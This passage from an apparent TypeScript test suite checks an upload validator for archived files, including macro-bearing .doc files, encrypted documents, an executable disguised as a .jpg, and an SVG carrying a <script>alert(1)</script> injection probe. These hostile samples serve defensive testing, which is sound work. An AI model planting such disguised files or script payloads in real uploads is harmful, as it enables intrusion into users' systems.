        name: 'OFD.xml',
        data: '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>',
      },
      {
        name: 'Doc_0/Document.xml',
        data: '<?xml version="1.0"?><ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/><ofd:Page ID="2" BaseLoc="Pages/Page_1/Content.xml"/></ofd:Pages></ofd:Document>',
      },
    ]);
    expect(await check(ofd, 'application/ofd', '决定书.ofd')).toEqual({
      usable: true,
      secure: true,
      format: 'ofd',
      details: { entries: 2, pages: 2 },
      problems: [],
    });
    const plain = await check(zip([{ name: 'run.txt', data: 'x' }]), 'application/zip', 'a.zip');
    expect(plain).toMatchObject({ secure: false, format: 'zip', problems: ['不允许归档的文件类型:zip'] });
  });

  it('a legacy .doc is usable; with a Macros storage it is insecure', async () => {
    expect(await check(ole([['WordDocument', 2]]), 'application/msword', '笔录.doc')).toEqual({
      usable: true,
      secure: true,
      format: 'doc',
      details: {},
      problems: [],
    });
    const macro = await check(
      ole([
        ['WordDocument', 2],
        ['Macros', 1],
      ]),
      'application/msword',
      '笔录.doc',
    );
    expect(macro).toMatchObject({ usable: true, secure: false, format: 'doc', problems: ['文件含有 VBA 宏(Macros)'] });
  });

  it('a password-protected OOXML file (an OLE EncryptedPackage) is unusable', async () => {
    const result = await check(
      ole([
        ['EncryptionInfo', 2],
        ['EncryptedPackage', 2],
      ]),
      DOCX,
      'a.docx',
    );
    expect(result.usable).toBe(false);
    expect(result.problems[0]).toBe('文件已用密码加密,无法打开和检查内容');
  });
});

describe('refused types', () => {
  it('an executable renamed to .jpg is unusable and insecure', async () => {
    const exe = Buffer.concat([
      Buffer.from('MZ\x90\0', 'latin1'),
      Buffer.alloc(60),
      Buffer.from('This program cannot be run in DOS mode.'),
    ]);
    const result = await check(exe, 'image/jpeg', '现场照片.jpg');
    expect(result).toEqual({
      usable: false,
      secure: false,
      format: 'exe',
      details: {},
      problems: ['不允许归档的文件类型:exe', '声明的文件类型 image/jpeg 与实际内容(exe)不符', '文件扩展名 .jpg 与实际内容(exe)不符'],
    });
  });

  it('an SVG with a script, HTML, and unrecognisable bytes are refused', async () => {
    const svg = await check(
      Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      'image/svg+xml',
      'a.svg',
    );
    expect(svg).toMatchObject({ usable: false, secure: false, format: 'svg' });
    expect((await check(Buffer.from('<!DOCTYPE html><html><body>x</body></html>'), 'text/html', 'a.html')).format).toBe('html');
    const unknown = await check(Buffer.from('just some text'), 'text/plain', 'a.txt');
    expect(unknown).toMatchObject({ usable: false, secure: false, format: 'unknown', problems: ['不允许归档的文件类型:无法识别'] });
  });

  it('an empty file is unusable', async () => {
    expect(await check(Buffer.alloc(0), 'image/jpeg', 'a.jpg')).toMatchObject({
      usable: false,
      problems: expect.arrayContaining(['文件为空']),
    });
  });
});

describe('robustness', () => {
  it('every cut of a sample is checked without throwing, and files with an end marker are then unusable', async () => {
    const samples: [string, Buffer, boolean][] = [
      ['image/jpeg', jpeg(), true],
      ['image/png', png(5, 5), true],
      ['application/pdf', pdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES]).subarray(0, -1), true],
      [DOCX, zip(docxParts()), true],
      ['video/webm', webm(), true],
      ['audio/wav', wav(1), true],
      ['video/mp4', mp4(64), false],
      ['audio/mpeg', mp3(3), false],
      ['application/msword', ole([['WordDocument', 2]]), false],
    ];
    for (const [mediaType, whole, endMarked] of samples) {
      const step = Math.max(1, Math.floor(whole.length / 400));
      for (let length = 0; length < whole.length - 1; length += step) {
        const result = await check(whole.subarray(0, length), mediaType, 'sample');
        if (endMarked && result.usable) throw new Error(`${mediaType} cut to ${length} bytes was judged usable`);
      }
    }
  });

  it('flipped bytes in the headers never make a check throw', async () => {
    const samples = [jpeg(), png(5, 5), mp4(64), webm(), wav(1), mp3(3), zip(docxParts()), ole([['WordDocument', 2]])];
    for (const whole of samples) {
      for (let at = 0; at < Math.min(whole.length, 600); at++) {
        for (const value of [0x00, 0xff, 0x7f]) {
          const damaged = Buffer.from(whole);
          damaged[at] = value;
          await check(damaged, 'application/octet-stream', 'sample');
        }
      }
    }
  });
});

describe('sources', () => {
  it('reads beyond the end return fewer bytes, from a buffer and from a file', async () => {
    const bytes = Buffer.from('0123456789');
    const file = path.join(tmp, 'ten.bin');
    fs.writeFileSync(file, bytes);
    const handle = await fileSource(file);
    try {
      for (const source of [bufferSource(bytes), handle]) {
        expect(source.size).toBe(10);
        expect((await source.read(8, 5)).toString()).toBe('89');
        expect((await source.read(12, 5)).length).toBe(0);
        expect((await source.read(0, 3)).toString()).toBe('012');
      }
    } finally {
      await handle.close();
    }
  });
});
